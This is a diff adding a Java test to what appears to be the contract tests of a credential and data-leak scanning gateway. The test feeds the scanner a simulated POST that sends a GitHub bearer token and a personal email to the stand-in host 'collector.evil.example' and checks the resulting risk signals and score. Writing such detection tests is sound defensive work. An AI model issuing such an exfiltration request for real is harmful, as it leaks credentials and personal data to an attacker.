@@ -77,6 +77,29 @@ abstract class ScanEndpointContract extends GatewayContract {
     }
 
     @Test
+    void theAnswerShowsEachSignalsShareOfTheScoreAndTheSharesAddUpToIt() {
+        TenantFixture tenant = newTenant();
+        JsonNode json = tenant.scan(Map.of(
+                "method", "POST",
+                "url", "https://collector.evil.example/upload",
+                "headers", Map.of("Authorization", "Bearer " + GITHUB_TOKEN),
+                "body", Map.of("email", "ana.lopez@example.org"))).json();
+
+        JsonNode signal = json.get("signals").get(0);
+        assertThat(signal.get("reason_code").asText()).isEqualTo("CREDENTIAL_HOST_MISMATCH");
+        assertThat(signal.get("weight").asDouble()).isEqualTo(0.9);
+        assertThat(signal.get("contribution").asDouble()).isBetween(0.5, 0.9);
+        double total = 0;
+        List<String> names = new java.util.ArrayList<>();
+        for (JsonNode factor : json.get("risk_factors")) {
+            total += factor.get("contribution").asDouble();
+            names.add(factor.get("kind").asText() + ":" + factor.get("name").asText());
+        }
+        assertThat(names).contains("data_class:PII", "signal:CREDENTIAL_HOST_MISMATCH");
+        assertThat(total).isCloseTo(json.get("risk_score").asDouble(), org.assertj.core.data.Offset.offset(0.001));
+    }
+
+    @Test
     void aGithubTokenAuthenticatingACallToGithubIsNotData() {
         TenantFixture tenant = newTenant();
         HttpResult answer = tenant.scan(Map.of(
